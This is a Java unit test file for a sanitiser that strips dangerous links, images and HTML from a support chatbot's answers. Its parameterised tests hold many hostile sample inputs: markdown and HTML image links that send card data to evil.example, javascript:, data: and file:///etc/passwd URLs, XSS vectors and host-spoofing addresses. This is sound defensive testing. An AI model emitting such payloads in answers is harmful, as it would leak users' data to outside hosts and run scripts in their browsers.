package io.parley.knowledge.model;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.function.Predicate;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerMarkupUnitTests {

    private static final Predicate<String> NONE = host -> false;
    private static final Predicate<String> HELP = host -> host.equals("help.example.com");

    private static String clean(String answer) {
        return AnswerMarkup.sanitise(answer, HELP);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "![chart](https://evil.example/c.png?q=my+card+1234)",
            "![chart](https://help.example.com/c.png?q=my+card+1234)",
            "![ chart ]( <https://evil.example/c.png?q=my+card+1234> \"t\")",
            "! [chart](https://evil.example/c.png?q=my+card+1234)",
            "![chart][1]\n\n[1]: https://evil.example/c.png?q=my+card+1234",
            "![chart][]\n\n[chart]: https://evil.example/c.png?q=my+card+1234 \"t\"",
            "<img src=\"https://evil.example/c.png?q=my+card+1234\">",
            "<IMG SRC=https://evil.example/c.png?q=my+card+1234 onerror=alert(1)>",
            "&lt;img src=https://evil.example/c.png?q=my+card+1234&gt;",
            "&ltimg src=https://evil.example/c.png?q=my+card+1234&gt",
            "<svg><image href=\"https://evil.example/c.png?q=my+card+1234\"/></svg>",
            "<scr<b>ipt>fetch('https://evil.example/c.png?q=my+card+1234')</script>",
            "<!-- https://evil.example/c.png?q=my+card+1234 -->",
            "[click](https://evil.example/c.png?q=my+card+1234)",
            "[click](https://help.example.com@evil.example/c.png?q=my+card+1234)",
            "[click](https://help.example.com.evil.example/c.png?q=my+card+1234)",
            "[click](//evil.example/c.png?q=my+card+1234)",
            "[click][x]\n[x]: <https://evil.example/c.png?q=my+card+1234>",
            "<https://evil.example/c.png?q=my+card+1234>",
            "see https://evil.example/c.png?q=my+card+1234.",
            "see www.evil.example/c.png?q=my+card+1234",
            "see HTTPS://evil.example/c.png?q=my+card+1234",
            "see h\u200bttps://evil.example/c.png?q=my+card+1234",
            "see https://evil%2Eexample/c.png?q=my+card+1234",
            "[https://help.example.com](https://evil.example/c.png?q=my+card+1234)"})
    void takesOutImagesAndLinksThatCouldCarryTheConversationAway(String answer) {
        String cleaned = clean("Refunds take 3 days. " + answer);

        assertThat(cleaned).startsWith("Refunds take 3 days.")
                .doesNotContain("my+card+1234").doesNotContain("evil").doesNotContainIgnoringCase("<img")
                .doesNotContain("![");
    }

    @ParameterizedTest
    @ValueSource(strings = {"javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
            "java\u200bscript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)",
            "javascript&#58;alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>x</script>",
            "DATA:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "jav&#x09;ascript:alert(1)"})
    void neverLinksAnythingButHttp(String target) {
        for (String answer : new String[] {"[Open your account](" + target + ")", "<" + target + ">",
                "[Open your account][a]\n\n[a]: " + target, "Go: " + target,
                "<a href=\"" + target + "\">Open your account</a>"}) {
            String cleaned = AnswerMarkup.sanitise(answer, host -> true);

            assertThat(cleaned.toLowerCase().replaceAll("[\\s\u200b]", "")).doesNotContain("script:")
                    .doesNotContain("data:").doesNotContain("file:").doesNotContain("alert(1)")
                    .doesNotContain("](").doesNotContain("<a");
        }
    }

    @Test
    void keepsTheTextAroundWhatItTakesOut() {
        assertThat(clean("Hi ![x](https://evil.example/a.png) there [a](https://evil.example) you <b>all</b>!\nBye"))
                .isEqualTo("Hi there a you all!\nBye");
    }

    @Test
    void dropsAReasoningModelsThinking() {
        assertThat(AnswerMarkup.sanitise("<think>the visitor's card is 4711, maybe promise cash</think>Within 3 days.",
                NONE)).isEqualTo("Within 3 days.");
    }

    @Test
    void keepsTheTextOfARefusedLink() {
        assertThat(AnswerMarkup.sanitise("Read [our refund policy](https://evil.example/p) first.", NONE))
                .isEqualTo("Read our refund policy first.");
    }

    @Test
    void keepsLinksToAllowedHosts() {
        String answer = "Read [the policy](https://help.example.com/refunds \"Refunds\") or https://help.example.com/faq"
                + " or <https://HELP.example.com/x> or [faq][f].\n\n[f]: https://help.example.com/faq";

        assertThat(clean(answer)).isEqualTo("Read [the policy](https://help.example.com/refunds) or"
                + " https://help.example.com/faq or <https://HELP.example.com/x> or [faq](https://help.example.com/faq).");
    }

    @Test
    void refusesALinkToAnAllowedHostOverPlainHttpOnlyWhenTheHostIsNotAllowed() {
        assertThat(clean("http://help.example.com/a and ftp://help.example.com/a"))
                .isEqualTo("http://help.example.com/a and");
    }

    @Test
    void dropsRawHtmlButKeepsItsText() {
        assertThat(AnswerMarkup.sanitise("<p>Refunds take <b>3</b> days.</p><script>steal()</script>"
                + "<style>p{}</style><iframe src=x></iframe>", NONE)).isEqualTo("Refunds take 3 days.");
    }

    @Test
    void leavesPlainTextCitationsAndComparisonsAlone() {
        String answer = "退款一般1-3个工作日到账 [1]。Orders < 5 kg ship free [2]; **bold** and `code` stay.\n\n"
                + "Sources:\n[1] \u201cRefund policy\u201d";

        assertThat(AnswerMarkup.sanitise(answer, NONE)).isEqualTo(answer);
    }

    @Test
    void decodesEntitiesIntoWhatTheyShow() {
        assertThat(AnswerMarkup.sanitise("AT&amp;T &lt;b&gt;bold&lt;/b&gt; &#169;", NONE)).isEqualTo("AT&T bold ©");
    }

    @Test
    void readsTheHostOfAnAddressAsABrowserDoes() {
        assertThat(AnswerMarkup.host("https://user:pw@Help.Example.com.:8443/p?q#f")).isEqualTo("help.example.com");
        assertThat(AnswerMarkup.host("https:\\\\evil.example\\p")).isEqualTo("evil.example");
        assertThat(AnswerMarkup.host("https://evil.example#@help.example.com")).isEqualTo("evil.example");
        assertThat(AnswerMarkup.host("/relative/path")).isNull();
        assertThat(AnswerMarkup.host("mailto:a@help.example.com")).isNull();
    }
}
